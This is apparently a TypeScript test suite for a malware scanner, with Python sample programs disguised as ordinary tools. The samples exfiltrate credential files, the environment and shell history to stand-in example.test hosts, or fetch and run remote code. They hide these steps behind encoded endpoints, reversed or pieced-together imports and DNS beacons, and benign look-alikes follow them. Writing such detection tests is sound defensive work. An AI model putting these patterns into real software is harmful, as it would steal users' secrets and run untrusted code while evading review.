/**
 * Camouflaged programs: ordinary-looking tools whose "update check", "telemetry" or "plugin"
 * helper steals private data, downloads and runs a file, or reaches a dangerous call through a
 * trick; each must reach at least high. Their benign look-alikes (an uploader of a file named on
 * the command line, a plugin loader, getattr with a variable, non-ASCII names that are themselves,
 * telemetry that sends a version) must stay below high.
 */
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createAnalyzer, type Analyzer } from '../../src/scan/engine/analyzer.js';
import type { Severity } from '../../src/findings/finding.js';

let analyzer: Analyzer;
before(async () => {
  analyzer = await createAnalyzer();
});

const RANK: Record<Severity, number> = { low: 0, medium: 1, high: 2, critical: 3 };

function worst(source: string, file = 'tool.py'): { rank: number; summary: string } {
  const { findings } = analyzer.analyze(file, Buffer.from(source));
  const rank = Math.max(-1, ...findings.map((f) => RANK[f.severity]));
  return { rank, summary: findings.map((f) => `${f.line} ${f.severity} ${f.ruleId}`).join(', ') || 'none' };
}

const MALICIOUS: { name: string; least: Severity; source: string }[] = [
  {
    name: 'log anonymiser: an update-check thread sends ~/.gitconfig, base64, in a header, to an endpoint decoded at run time, through requests loaded as load("r","e",…)',
    least: 'critical',
    source: `"""logscrub: anonymise IP addresses in log files."""
import argparse, base64, os, re, threading

def load(*parts):
    return __import__("".join(parts))

_EP = "aHR0cHM6Ly91cGRhdGVzLmxvZ3NjcnViLmV4YW1wbGUudGVzdC92MS9jaGVjaw=="

def _check_updates():
    try:
        http = load("r", "e", "q", "u", "e", "s", "t", "s")
        with open(os.path.expanduser("~/.gitconfig")) as fh:
            marker = base64.b64encode(fh.read().encode()).decode()
        http.get(base64.b64decode(_EP).decode(), headers={"X-Client": marker}, timeout=3)
    except Exception:
        pass

def scrub(line):
    return re.sub(r"\\d+\\.\\d+\\.\\d+\\.\\d+", "x.x.x.x", line)

def main():
    threading.Thread(target=_check_updates, daemon=True).start()
    parser = argparse.ArgumentParser()
    parser.add_argument("path")
    args = parser.parse_args()
    for line in open(args.path):
        print(scrub(line), end="")

if __name__ == "__main__":
    main()
`,
  },
  {
    name: 'CSV analyser: telemetry at exit uploads settings.ini from the working directory with files= to a hex-decoded host',
    least: 'high',
    source: `import atexit, binascii, csv, statistics, sys
import requests

_HOST = binascii.unhexlify("6373762d73746174732e6578616d706c652e74657374").decode()

def _telemetry():
    try:
        requests.post(f"https://{_HOST}/v2/usage", files={"report": open("settings.ini", "rb")}, timeout=2)
    except Exception:
        pass

atexit.register(_telemetry)

def column_means(path):
    with open(path, newline="") as fh:
        rows = list(csv.DictReader(fh))
    return {k: statistics.mean(float(r[k]) for r in rows) for k in rows[0]}

print(column_means(sys.argv[1]))
`,
  },
  {
    name: 'markdown linter: the environment as JSON, base64, in a cookie; requests imported under a reversed name',
    least: 'high',
    source: `import base64, importlib, json, os, sys

def _session():
    return importlib.import_module("stseuqer"[::-1])

def _sync_prefs():
    blob = base64.urlsafe_b64encode(json.dumps(dict(os.environ)).encode()).decode()
    _session().get("https://prefs.mdlint.example.test/sync", cookies={"prefs": blob}, timeout=2)

def lint(text):
    return [i for i, line in enumerate(text.splitlines(), 1) if len(line) > 100]

if __name__ == "__main__":
    _sync_prefs()
    print(lint(open(sys.argv[1]).read()))
`,
  },
  {
    name: 'disk usage reporter: user and host name hex-encoded into a DNS name from a timer',
    least: 'high',
    source: `import getpass, os, shutil, socket, threading

def _beacon():
    label = (getpass.getuser() + "@" + socket.gethostname()).encode().hex()
    try:
        socket.gethostbyname(label[:60] + ".du.example.test")
    except OSError:
        pass

threading.Timer(5.0, _beacon).start()
total, used, free = shutil.disk_usage(".")
print(f"{used / total:.0%} used")
`,
  },
  {
    name: 'image resizer: ~/.netrc sent in the URL path of a pixel request through a helper parameter',
    least: 'high',
    source: `import base64, pathlib, sys, urllib.request

def _pixel(payload):
    urllib.request.urlopen("https://cdn.resizer.example.test/p/" + payload + "/1x1.gif", timeout=2)

def _fingerprint():
    return base64.b32encode((pathlib.Path.home() / ".netrc").read_bytes()).decode()

def resize(path, factor):
    print("resizing", path, "by", factor)

_pixel(_fingerprint())
resize(sys.argv[1], float(sys.argv[2]))
`,
  },
  {
    name: 'todo manager: ~/.config files sent as a JSON body through a worker pool',
    least: 'high',
    source: `import glob, json, os
from concurrent.futures import ThreadPoolExecutor
import httpx

def collect():
    found = {}
    for path in glob.glob(os.path.expanduser("~/.config/**/*.json"), recursive=True):
        with open(path) as fh:
            found[path] = fh.read()
    return found

def publish(data):
    httpx.post("https://todo-sync.example.test/api/state", json={"state": data})

with ThreadPoolExecutor() as pool:
    pool.submit(publish, collect())
print("3 tasks due today")
`,
  },
  {
    name: 'weather CLI: shell history in the query string of a request whose client module is assembled from parts',
    least: 'high',
    source: `import os, sys

def _mod(a, b, c):
    return __import__(a + b + c)

def forecast(city):
    net = _mod("req", "ue", "sts")
    hist = open(os.path.join(os.path.expanduser("~"), ".bash_history")).read()[-2000:]
    return net.get("https://wx.example.test/forecast", params={"city": city, "ctx": hist}).json()

print(forecast(sys.argv[1]))
`,
  },
  {
    name: 'a .env file from the working directory sent over a raw socket to a decoded address',
    least: 'high',
    source: `import base64, socket
host = base64.b64decode("c3luYy5leGFtcGxlLnRlc3Q=").decode()
with open(".env") as fh:
    data = fh.read()
s = socket.create_connection((host, 443))
s.sendall(data.encode())
`,
  },
  {
    name: 'a plugin fetched with urlretrieve to a temporary path and run with runpy.run_path',
    least: 'critical',
    source: `import os, runpy, tempfile, urllib.request

def _tmp(name):
    return os.path.join(tempfile.gettempdir(), name)

def refresh_rules():
    target = _tmp("rules_update.py")
    urllib.request.urlretrieve("https://rules.example.test/latest.py", target)
    runpy.run_path(target)

refresh_rules()
`,
  },
  {
    name: 'a response written to a file in a helper, then run by the interpreter in a subprocess',
    least: 'critical',
    source: `import subprocess, sys, tempfile
import requests

def fetch(url, dest):
    r = requests.get(url, timeout=10)
    with open(dest, "wb") as fh:
        fh.write(r.content)
    return dest

def main():
    path = fetch("https://tools.example.test/migrate.py", tempfile.mktemp(suffix=".py"))
    subprocess.run([sys.executable, path], check=True)

main()
`,
  },
  {
    name: 'shutil.copyfileobj from a response into a file, then exec(open(p).read())',
    least: 'critical',
    source: `import shutil, urllib.request
p = "/tmp/.cache_hook.py"
with urllib.request.urlopen("https://hooks.example.test/h.py") as resp, open(p, "wb") as out:
    shutil.copyfileobj(resp, out)
exec(open(p).read())
`,
  },
  {
    name: 'a module downloaded into a directory that is put on sys.path and imported',
    least: 'critical',
    source: `import importlib, os, sys, urllib.request
cache = os.path.expanduser("~/.cache/fmt")
os.makedirs(cache, exist_ok=True)
urllib.request.urlretrieve("https://fmt.example.test/fmt_ext.py", os.path.join(cache, "fmt_ext.py"))
sys.path.insert(0, cache)
importlib.import_module("fmt_ext")
`,
  },
  {
    name: 'eval spelled in full-width letters, with a constant argument',
    least: 'high',
    source: 'ｅｖａｌ("print(1)")\n',
  },
  {
    name: 'vars(os)["sy" "stem"] with a constant command',
    least: 'high',
    source: 'import os\nvars(os)["sy" "stem"]("echo ready")\n',
  },
  {
    name: 'getattr of builtins with a reversed name',
    least: 'high',
    source: 'import builtins\ngetattr(builtins, "cexe"[::-1])("x = 1")\n',
  },
  {
    name: 'sys.modules with an assembled module name and a split attribute',
    least: 'high',
    source: 'import sys, os\nrun = getattr(sys.modules["o" + "s"], "po" + "pen")\nrun("uptime").read()\n',
  },
  {
    name: 'ctypes reached through a module name passed to a helper in pieces',
    least: 'high',
    source: `def need(*bits):
    return __import__("".join(bits))
c = need("ct", "ypes")
c.CDLL("libc.so.6").system(b"id")
`,
  },
  {
    name: 'shutil.rmtree reached through globals() with a name built from character codes',
    least: 'high',
    source: `import shutil
getattr(shutil, "".join(map(chr, [114, 109, 116, 114, 101, 101])))("build")
`,
  },
];

for (const program of MALICIOUS) {
  test(`${program.name}: ${program.least} or above`, () => {
    const { rank, summary } = worst(program.source);
    assert.ok(rank >= RANK[program.least], `reached ${rank < 0 ? 'nothing' : Object.keys(RANK)[rank]}; findings: ${summary}`);
  });
}

const BENIGN: { name: string; source: string }[] = [
  {
    name: 'an uploader that sends a file named on the command line to a fixed, visible endpoint',
    source: `import argparse, requests
parser = argparse.ArgumentParser()
parser.add_argument("path")
args = parser.parse_args()
with open(args.path, "rb") as fh:
    r = requests.post("https://upload.example.test/v1/files", files={"file": fh}, timeout=30)
print(r.json()["url"])
`,
  },
  {
    name: 'a plugin loader: modules named by configuration, entry points looked up with getattr',
    source: `import importlib
PLUGINS = ["csv_export", "json_export"]
def load_plugins(names):
    loaded = []
    for name in names:
        module = importlib.import_module(f"myapp.plugins.{name}")
        loaded.append(getattr(module, "register")())
    return loaded
load_plugins(PLUGINS)
`,
  },
  {
    name: 'a command dispatcher: getattr with a variable name',
    source: `import sys
class Shell:
    def do_list(self): print("a b c")
    def run(self, command):
        handler = getattr(self, "do_" + command, None)
        if handler: handler()
        method = sys.argv[1]
        getattr(self, method)()
Shell().run(sys.argv[1])
`,
  },
  {
    name: 'non-ASCII identifiers that normalise to themselves',
    source: `def größe(länge, breite):
    return länge * breite
π = 3.14159
café = größe(2, 3) * π
print(café)
`,
  },
  {
    name: 'telemetry that sends only a version number',
    source: `import platform, threading, requests
__version__ = "1.4.2"
def _ping():
    try:
        requests.post("https://telemetry.example.test/v1/ping", json={"version": __version__, "python": platform.python_version()}, timeout=2)
    except Exception:
        pass
threading.Thread(target=_ping, daemon=True).start()
`,
  },
  {
    name: 'an update check that compares versions and downloads nothing it runs',
    source: `import urllib.request, json
def latest():
    with urllib.request.urlopen("https://pypi.example.test/pypi/mytool/json", timeout=3) as r:
        return json.load(r)["info"]["version"]
if latest() != "1.0":
    print("a new version is available")
`,
  },
  {
    name: 'a dataset downloader that saves a CSV and reads it, and runs a local script',
    source: `import subprocess, sys, urllib.request
import pandas as pd
urllib.request.urlretrieve("https://data.example.test/iris.csv", "iris.csv")
print(pd.read_csv("iris.csv").describe())
subprocess.run([sys.executable, "train.py", "--data", "iris.csv"], check=True)
`,
  },
  {
    name: 'a tool that reads its own settings.ini and calls an API with the token as credentials',
    source: `import configparser, requests
cfg = configparser.ConfigParser()
cfg.read("settings.ini")
token = cfg["api"]["token"]
r = requests.get("https://api.example.test/v1/items", headers={"Authorization": f"Bearer {token}"}, timeout=5)
print(len(r.json()))
`,
  },
  {
    name: 'the module itself looked up in sys.modules, a registry filled through globals()',
    source: `import sys
this = sys.modules[__name__]
HANDLERS = {}
for key in ("alpha", "beta"):
    HANDLERS[key] = globals().get("handle_" + key)
setattr(this, "ready", True)
`,
  },
  {
    name: 'a CLI that prints the host name and user it runs as',
    source: `import getpass, socket
print(f"running as {getpass.getuser()} on {socket.gethostname()}")
`,
  },
];

for (const program of BENIGN) {
  test(`benign: ${program.name} stays below high`, () => {
    const { rank, summary } = worst(program.source);
    assert.ok(rank < RANK.high, `reached ${Object.keys(RANK)[rank]}; findings: ${summary}`);
  });
}
